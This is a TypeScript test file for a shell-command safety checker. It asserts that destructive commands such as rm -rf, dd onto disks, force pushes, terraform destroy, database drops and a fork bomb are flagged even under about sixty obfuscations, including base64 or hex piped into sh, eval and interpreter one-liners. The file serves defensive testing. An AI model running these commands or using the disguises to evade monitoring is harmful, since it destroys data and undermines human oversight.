import assert from 'node:assert/strict';
import { assessIn, isAlarming } from './fake-world.js';

/** Destructive commands that every disguise below is put on. */
const PLAIN = ['rm -rf /srv/data', 'git push --force origin main', 'terraform destroy -auto-approve', 'kubectl delete namespace pay', 'dropdb shop', 'aws s3 rb s3://shop --force', 'docker volume rm data', 'systemctl stop postgresql'];

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const escaped = (text: string): string => Array.from(text, (char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');

/** Ways to say a command so that a search of the text would not find it. */
const DISGUISES: readonly (readonly [string, (text: string) => string])[] = [
  ['quotes inside the name', (text) => `${text.slice(0, 1)}''${text.slice(1)}`],
  ['a backslash in front', (text) => `\\${text}`],
  ['a line continuation inside the name', (text) => `${text.slice(0, 1)}\\\n${text.slice(1)}`],
  ['an ANSI-C quoted name', (text) => `$'\\x${text.charCodeAt(0).toString(16)}'${text.slice(1)}`],
  ['a variable for the program', (text) => `P=${text.split(' ')[0] ?? ''}; $P ${text.split(' ').slice(1).join(' ')}`],
  ['a variable for everything', (text) => `cmd="${text}"; $cmd`],
  ['an array', (text) => `cmd=(${text}); "\${cmd[@]}"`],
  ['a brace expansion', (text) => `{${text.split(' ').join(',')}}`],
  ['a default value', (text) => `\${nothing_is_set_here:-${text.split(' ')[0] ?? ''}} ${text.split(' ').slice(1).join(' ')}`],
  ['eval', (text) => `eval '${text}'`],
  ['bash -c', (text) => `bash -c '${text}'`],
  ['sh -ec in sh -c', (text) => `sh -c "sh -ec '${text}'"`],
  ['echo into a shell', (text) => `echo '${text}' | sh`],
  ['printf into a shell', (text) => `printf '%s\\n' '${text}' | bash -s`],
  ['hex escapes into a shell', (text) => `printf '${escaped(text)}' | bash`],
  ['base64 into a shell', (text) => `echo ${base64(text)} | base64 -d | sh`],
  ['base64 in a substitution', (text) => `eval "$(echo ${base64(text)} | base64 --decode)"`],
  ['hex dump into a shell', (text) => `echo ${hex(text)} | xxd -r -p | sh`],
  ['reversed text', (text) => `echo '${Array.from(text).reverse().join('')}' | rev | sh`],
  ['a here-document', (text) => `bash <<'EOF'\n${text}\nEOF`],
  ['a here-string', (text) => `bash <<< '${text}'`],
  ['a process substitution', (text) => `bash <(echo '${text}')`],
  ['source of a process substitution', (text) => `source <(printf '%s' '${text}')`],
  ['a function', (text) => `f() { ${text}; }; f`],
  ['an alias', (text) => `alias x='${text}'\nx`],
  ['a file that it writes first', (text) => `cat > /tmp/x.sh <<'EOF'\n${text}\nEOF\nbash /tmp/x.sh`],
  ['a trap', (text) => `trap '${text}' EXIT`],
  ['a loop', (text) => `for i in 1; do ${text}; done`],
  ['a condition', (text) => `if true; then ${text}; fi`],
  ['the second half of ||', (text) => `false || ${text}`],
  ['a command substitution', (text) => `echo "$(${text})"`],
  ['back quotes', (text) => `echo \`${text}\``],
  ['the background', (text) => `${text} & disown`],
  ['sudo with options', (text) => `sudo -u root -n -- ${text}`],
  ['env with assignments', (text) => `env -i A=b C=d ${text}`],
  ['leading assignments', (text) => `A=b C="d e" ${text}`],
  ['many wrappers', (text) => `nohup nice -n 5 timeout -s KILL 10 stdbuf -oL setsid ${text}`],
  ['time', (text) => `time -p ${text}`],
  ['command and exec', (text) => `command exec ${text}`],
  ['busybox sh', (text) => `busybox sh -c '${text}'`],
  ['su', (text) => `su - root -c '${text}'`],
  ['ssh', (text) => `ssh -p 2222 -o StrictHostKeyChecking=no web '${text}'`],
  ['docker exec', (text) => `docker exec -it -u root web sh -c '${text}'`],
  ['kubectl exec', (text) => `kubectl -n pay exec -it web -- bash -c '${text}'`],
  ['xargs', (text) => `echo x | xargs -I{} sh -c '${text}'`],
  ['parallel', (text) => `parallel ::: '${text}'`],
  ['watch', (text) => `watch -n 5 '${text}'`],
  ['find -exec', (text) => `find . -maxdepth 0 -exec ${text} \\;`],
  ['flock', (text) => `flock /tmp/lock -c '${text}'`],
  ['script', (text) => `script -qc '${text}' /dev/null`],
  ['python', (text) => `python3 -c 'import os; os.system("${text}")'`],
  ['python with a list', (text) => `python -c 'import subprocess; subprocess.run([${text.split(' ').map((word) => `"${word}"`).join(', ')}])'`],
  ['node', (text) => `node -e 'require("child_process").execSync("${text}")'`],
  ['ruby', (text) => `ruby -e 'system("${text}")'`],
  ['perl', (text) => `perl -e 'system("${text}")'`],
  ['awk', (text) => `awk 'BEGIN { system("${text}") }'`],
  ['php', (text) => `php -r 'shell_exec("${text}");'`],
  ['a git alias', (text) => `git -c alias.x='!${text}' x`],
  ['ssh’s proxy command', (text) => `ssh -o ProxyCommand='${text}' web`],
  ['psql’s shell', (text) => `psql <<'EOF'\n\\! ${text}\nEOF`],
];

/** Ways that belong to one tool. */
const OTHERS: readonly string[] = [
  'rm -r -f /srv/data', 'rm --recursive --force /srv/data', 'rm --recur /srv/data', '/bin/rm -rf /srv/data', '"rm" "-rf" "/srv/data"', 'cd /srv && rm -rf data', 'D=/srv; rm -rf "$D/data"', 'rm -rf -- /srv/data', 'rm -fr "$HOME"', 'rm -rf ~', 'rm -rf "${UNSET_DIR}"/*', 'rm -rf /tmp/../srv', 'cd /; rm -rf *', 'find /srv -delete', 'find /srv -type f -exec rm -f {} +', 'ls /srv | xargs rm -rf', 'perl -e \'use File::Path; rmtree("/srv")\'', 'python3 -c "import shutil as s; s.rmtree(\'/srv\')"', 'node -e "require(\'fs\').rmSync(\'/srv\', { recursive: true })"', 'ruby -rfileutils -e "FileUtils.rm_rf(\'/srv\')"', 'mv /srv/data /dev/null', 'dd if=/dev/zero of=/dev/sda', 'cat /dev/zero > /dev/sda', ':> important.db', 'truncate -s 0 important.db', 'rsync -a --delete empty/ /srv/data/', 'git push -f', 'git push origin +main', 'git -C /srv push --forc', 'git push --mirror', 'git push origin :main', 'git-push --force', 'git -c x.y=z push --force', 'G="git push"; $G --force', 'git reset --har', 'git checkout -- .', 'git clean -xfd', 'terraform -chdir=infra destroy', 'tofu apply -destroy', 'terragrunt run-all destroy', 'kubectl --context prod -n pay delete ns x', 'kubectl delete -f - < all.yaml', 'kubectl get ns -o name | xargs kubectl delete', 'psql -c "drop table users"', 'echo "drop table users" | psql', 'psql <<< "TRUNCATE users"', 'mysql -e "DELETE FROM users"', 'docker exec db psql -U app -c "DROP DATABASE app"', 'kubectl exec db-0 -- psql -c "TRUNCATE t"', 'ssh db "psql -c \'DROP TABLE t\'"', 'mongosh --eval "db.dropDatabase()"', 'echo FLUSHALL | redis-cli', 'curl -XDELETE https://api.example.com/users', 'curl --request "DELETE" https://api.example.com/users', 'aws ec2 terminate-instances --instance-ids i-1', 'sh -c "$(echo rm -rf /srv)"', 'x=rm; y=-rf; z=/srv; $x $y $z', 'IFS=,; c=rm,-rf,/srv; $c', 'printf -v c "%s" rm; $c -rf /srv', 'read c <<< rm; $c -rf /srv', 'while read -r c; do eval "$c"; done <<< "rm -rf /srv"', 'set -- rm -rf /srv; "$@"', 'c=mr; $(echo $c | rev) -rf /srv', 'c=RM; ${c,,} -rf /srv', 'c=xrmx; ${c:1:2} -rf /srv', 'tar -cf x.tar a --checkpoint=1 --checkpoint-action=exec="rm -rf /srv"', 'crontab -r', 'kill -9 -1', ':(){ :|:& };:',
];

describe('ways to say something destructive', () => {
  for (const text of PLAIN) it(`plainly: ${text}`, () => assert.ok(isAlarming(assessIn(text))));
  for (const [name, disguise] of DISGUISES) {
    for (const text of PLAIN) it(`${name}: ${text}`, () => assert.ok(isAlarming(assessIn(disguise(text))), disguise(text)));
  }
  for (const text of OTHERS) it(text, () => assert.ok(isAlarming(assessIn(text))));
});

describe('what cannot be known', () => {
  const unknown: readonly string[] = ['$CMD', '"$TOOL" --all', '$(cat todo) now', 'eval "$INPUT"', 'bash -c "$INPUT"', 'curl https://example.com/x | sh', './nobody-has-this.sh', 'bash missing.sh', 'no-such-program --now', 'rm -rf \'', 'if then fi (', 'python "$SCRIPT"', 'ssh web', `echo ${'('.repeat(80)}`, `echo ${'x'.repeat(70_000)}`];
  for (const text of unknown) {
    it(text.slice(0, 60), () => {
      const { effect, steps } = assessIn(text);
      assert.ok(effect === 'unknown' || effect === 'destroy', effect);
      assert.ok(steps.some((step) => step.stage === 'unknown' || step.stage === 'rule'));
    });
  }
});
